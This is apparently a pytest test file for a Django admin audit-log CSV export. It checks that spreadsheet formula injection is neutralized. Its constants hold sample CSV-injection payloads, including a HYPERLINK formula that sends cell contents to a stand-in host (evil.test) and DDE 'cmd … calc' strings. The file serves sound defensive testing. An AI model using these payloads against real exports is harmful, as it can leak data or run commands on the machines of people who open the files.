"""Spreadsheet formulas in the audit CSV export (OWASP "CSV Injection"): hostile values from every outside source
(an organization's name, a person's name, email addresses and login names, support's reasons, a user agent) are
written through the real pages and services, exported from Django admin, and read back as a spreadsheet would:
with commas, with semicolons, and split at every separator whatever the quotes say. No cell begins a formula and
every value is still there."""

import csv
import io
import json
import re

import pytest
from allauth.mfa.totp.internal.auth import TOTP
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from audit.models import Action, AuditEvent
from m365sim import services as sim
from organizations import services
from tests.admin.staff import TOTP_SECRET, mfa_client, staff_user
from tests.cast import client_for
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:audit_auditevent_export")
FORMULA_START = re.compile(r'^[ "]*[=+\-@]|^[\t\r]')

ORGANIZATION_NAME = '=HYPERLINK("http://evil.test/?"&A1,"Invoice")'
TWO_LINE_NAME = "Fabrikam\n@SUM(1+1)"
FULL_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
LOGIN = "=cmd|'/C-calc'!A0@evil.test"
INVITED = "-2+3@fabrikam.test"
REASON = "Checked by phone;=cmd|' /C calc'!A0\n+1+1, -2\t@SUM(1)"
USER_AGENT = ' "=1+1";-2'


def export(client: Client) -> str:
    response = client.get(EXPORT)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(bytes(chunk) for chunk in response.streaming_content).decode()


def formula_cells(cells: list[str]) -> list[str]:
    return [cell for cell in cells if FORMULA_START.search(cell)]


@pytest.fixture
def hostile_export(cast) -> str:
    root = staff_user("root@casportal.test", superuser=True)
    staff = mfa_client(root)
    services.create_organization(name=ORGANIZATION_NAME, actor=root)
    services.create_organization(name=TWO_LINE_NAME, actor=root)
    assert Client().post(reverse("account_login"), {"login": LOGIN, "password": "x" * 12}).status_code == 200
    invited = client_for(cast.owner).post(
        reverse("member_invite", args=[cast.organization.slug]), {"email": INVITED, "role": "read-only"}
    )
    assert invited.status_code == 302
    customer = UserFactory.create(email="ann@contoso.test")
    changed = staff.get(reverse("admin:accounts_user_change", args=[customer.pk]))
    form = changed.context["adminform"].form
    data = {name: form[name].value() for name in ("email", "is_active")} | {"full_name": FULL_NAME}
    assert staff.post(reverse("admin:accounts_user_change", args=[customer.pk]), data).status_code == 302
    TOTP.activate(customer, TOTP_SECRET)
    reset = staff.post(
        reverse("admin:accounts_user_changelist"),
        {"action": "reset_mfa", ACTION_CHECKBOX_NAME: [str(customer.pk)], "confirm": "yes", "reason": REASON},
        HTTP_USER_AGENT=USER_AGENT,
    )
    assert reset.status_code == 302
    assert AuditEvent.objects.filter(action=Action.SUPPORT_MFA_RESET, user_agent=USER_AGENT).exists()
    return export(staff)


def test_no_cell_begins_a_formula_in_the_comma_reading(hostile_export):
    rows = list(csv.reader(io.StringIO(hostile_export)))
    assert formula_cells([cell for row in rows for cell in row]) == []
    targets = {row[4] for row in rows[1:]}
    assert {f"'{ORGANIZATION_NAME}", "Fabrikam\n'@SUM(1+1)", f"'{LOGIN.lower()}", f"'{INVITED}"} <= targets
    agents = {row[6] for row in rows[1:]}
    assert " \"'=1+1\";'-2" in agents
    reasons = {json.loads(row[7]).get("reason") for row in rows[1:]}
    # JSON writes the reason's line break and tab as escapes: not separators.
    assert "Checked by phone;'=cmd|' /C calc'!A0\n+1+1, '-2\t@SUM(1)" in reasons
    changes = [json.loads(row[7])["changes"] for row in rows[1:] if '"changes"' in row[7]]
    assert {"full_name": ["", f"'{FULL_NAME}"]} in changes


def test_no_cell_begins_a_formula_in_the_semicolon_reading(hostile_export):
    rows = list(csv.reader(io.StringIO(hostile_export), delimiter=";"))
    assert formula_cells([cell for row in rows for cell in row]) == []
    assert len(rows) > AuditEvent.objects.count() + 1  # the two-line name starts a row of its own


def test_no_piece_between_separators_begins_a_formula_whatever_the_quotes(hostile_export):
    pieces = re.split(r"[,;\t\r\n]", hostile_export)
    assert formula_cells(pieces) == []
    assert formula_cells([piece.lstrip('"') for piece in pieces]) == []


def test_every_cell_is_quoted(hostile_export):
    rows = list(csv.reader(io.StringIO(hostile_export)))
    quoted = io.StringIO()
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(rows)
    assert quoted.getvalue() == hostile_export


@pytest.mark.django_db(databases=["default", "m365sim"])
def test_a_user_principal_name_from_microsoft_is_neutralized(driver, contoso):
    """Through a certain-users grant: the picked user's name, as the simulated Graph returns it, is the target."""
    sim.add_user(contoso, user_principal_name="-2+3;=cmd@contoso.onmicrosoft.com", display_name="=HYPERLINK(1)")
    response = driver.grant(mode="certain")
    picker = driver.portal("get", response["Location"])["Location"]
    driver.portal(
        "post", picker.replace("/users/", "/users/add/"), {"user_principal_name": "-2+3;=cmd@contoso.onmicrosoft.com"}
    )
    assert AuditEvent.objects.filter(action=Action.SELECTED_USER_ADDED).exists()
    exported = export(mfa_client(staff_user("root@casportal.test", superuser=True)))
    assert formula_cells(re.split(r"[,;\t\r\n]", exported)) == []
    assert "'-2+3;'=cmd@contoso.onmicrosoft.com" in exported
